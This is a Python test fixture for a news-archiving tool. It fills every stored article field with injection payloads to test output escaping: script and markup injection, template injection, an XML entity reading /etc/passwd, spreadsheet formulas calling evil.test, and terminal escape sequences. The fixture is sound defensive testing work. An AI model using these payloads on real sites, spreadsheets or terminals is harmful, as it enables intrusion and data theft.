"""A file in which every text that a page may choose is an attack on whoever looks at it."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from storage import runs
from storage.database import Database, open_writer
from storage.records import Article, Candidate, Credit, Dateline, Discovered, Evidence, Image, PublicationTime
from tests.storage.conftest import FEED, Desk, article

MARK = "pwned"
"""Whatever runs says it: in a title of a window, a request, a cell that was computed."""
SCRIPTS = (
    f"<script>document.title='{MARK}'</script>",
    f"<img src=x onerror=\"document.title='{MARK}'\">",
    f"\"><svg/onload=document.title='{MARK}'>",
    f"'-document.title='{MARK}'-'",
    f"</title></textarea></style></script><script>document.title='{MARK}'</script>",
    f"--><script>document.title='{MARK}'</script><!--",
    "{{ 7*7 }}{% raw %}{{ config }}${7*7}",
    f"javascript:document.title='{MARK}'",
    f"JaVaScRiPt:document.title='{MARK}'",
    f"data:text/html,<script>document.title='{MARK}'</script>",
    f"vbscript:msgbox('{MARK}')",
    f"http://a.cn/\" onmouseover=\"document.title='{MARK}'",
    f"https://a.cn/'><script>document.title='{MARK}'</script>",
    f"<meta http-equiv=refresh content=0;url=//evil.test/{MARK}>",
    f"<base href=//evil.test/><a href=x>{MARK}</a>",
    f"<style>@import '//evil.test/{MARK}'</style>",
    f"<iframe srcdoc=\"<script>parent.document.title='{MARK}'</script>\">",
    f"[{MARK}](javascript:document.title=1) ![x](data:image/svg+xml,<svg/onload=alert(1)>) <javascript:alert(1)>",
    f"&lt;script&gt;{MARK}&lt;/script&gt; ]]></content><script>{MARK}</script><![CDATA[",
    "&#60;script&#62;&lol;<!DOCTYPE x [<!ENTITY lol SYSTEM 'file:///etc/passwd'>]>",
)
FORMULAS = (
    f"=cmd|' /C {MARK}'!A0", "+1+1", "-2+3+cmd", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "＋1",
    "－1", "＠1", "\u200b=1+1", "\ufeff=1+1", f'=HYPERLINK("http://evil.test/{MARK}","看")', '","=1+1', '"\r\n=1+1',
    f'=WEBSERVICE("http://evil.test/{MARK}")', "%0A=1+1", "；=1+1",
)  # fmt: skip
STEERING = (
    f"\x1b]0;{MARK}\x07\x1b[2J\x1b[31m红", f"\x9b31m\x9d0;{MARK}\x9c", "\x08\x08\x08退格", "\r覆盖整行",
    "a\u2028b\u2029c\u0085d",
    "\u202e倒过来\u202c\u2066a\u2069", "\u200b\u200e\u200f\u2060零宽", "\ufffe\uffff\U0001fffe", "\x00零", "\ud800孤",
    "a" * 300 + "\u0301" * 500, "\U000e0041\U000e0042标签", "\x1b]8;;http://evil.test/\x1b\\链接\x1b]8;;\x1b\\",
)  # fmt: skip
ATTACKS = (*SCRIPTS, *FORMULAS, *STEERING)


def make(path: Path) -> None:
    """None; at `path` is a database with an article for each attack, a revision of each, and all else they get into.

    As an older Dibao could have stored them: what can be seen is written past the door that cleans it.
    """
    with open_writer(path) as database:
        desk = Desk(database)
        desk.begin()
        desk.take(_discovered(desk), *_articles(desk, ATTACKS), *_failures(desk), _checked(desk))
        _finish(desk)
        desk.now += timedelta(hours=2)
        desk.begin(limit=1_000, rechecks=True)
        desk.take(*_articles(desk, tuple(f"{attack} 改了又改" for attack in ATTACKS)))
        _finish(desk)
        with database.transaction():
            for at, attack in enumerate(ATTACKS, start=1):
                _write(database, at, attack.encode("utf-8", "replace").decode())


def _write(database: Database, article_id: int, said: str) -> None:
    values = {"id": article_id, "said": said, "text": f"{said}\n\n正文里也有：{said}", "listed": json.dumps([said])}
    for statement in (
        "UPDATE article_heads SET url = :said WHERE id = :id",
        """UPDATE article_revisions SET title = :said, origin = :said, origin_raw = :said, kicker = :said,
                  published_raw = :said, licence = :said, authors = :listed, sections = :listed, keywords = :listed
            WHERE article_id = :id""",
        """UPDATE article_texts SET text = :text, markdown = :text, markdown_pieces = NULL
            WHERE revision_id IN (SELECT id FROM article_revisions WHERE article_id = :id)""",
    ):
        database.execute(statement, values)


def _finish(desk: Desk) -> None:
    desk.end()
    with desk.database.transaction():
        runs.finish(desk.database, int(desk.job.removeprefix("job-")), desk.now)


def _discovered(desk: Desk) -> Discovered:
    found = desk.discovered(*(f"{at}.html" for at in range(len(ATTACKS))), "lost.html", "slow.html")
    candidates = tuple(
        Candidate(url=one.url, key=one.key, title=attack, published_raw=attack, guid=attack, position=one.position)
        for one, attack in zip(found.candidates, (*ATTACKS, ATTACKS[0], ATTACKS[1]), strict=True)
    )
    return Discovered(job_id=found.job_id, number=0, entry_url=FEED, candidates=candidates, taken=len(candidates))


def _articles(desk: Desk, words: tuple[str, ...]) -> list[Any]:
    return [desk.extracted(f"{at}.html", hostile(attack)) for at, attack in enumerate(words)]


def hostile(attack: str) -> Article:
    """An article that says an attack wherever a page may say anything."""
    time = PublicationTime(at=datetime(2026, 11, 21, 8, tzinfo=UTC), precision="minute", raw=attack, where=attack)
    return article(
        f"{attack}\n\n正文里也有：{attack}", attack,
        markdown=f"# {attack}\n\n{attack}", kicker=attack, subheadline=attack, published=time, origin=attack,
        origin_raw=attack, origin_url=attack, dateline=Dateline(place=attack, agency=attack, raw=attack),
        credits=(Credit(role="reporter", name=attack, raw=attack, where=attack),), sections=(attack,),
        keywords=(attack,), print_page=attack, images=(Image(url=attack, caption=attack, photographer=attack),),
        licence=attack, correction=attack, canonical_url=attack,
        evidence=(Evidence(fact="title", value=attack, raw=attack, where=attack, chosen=True),),
    )  # fmt: skip


def _failures(desk: Desk) -> list[Any]:
    return [
        desk.rejected("lost.html", "no_text", detail=SCRIPTS[0] + STEERING[0]),
        desk.failed("slow.html", "connection", detail=SCRIPTS[1] + STEERING[1]),
    ]


def _checked(desk: Desk) -> Any:
    return desk.checked(status="failed", reason="bad_feed", detail=SCRIPTS[0] + STEERING[0])
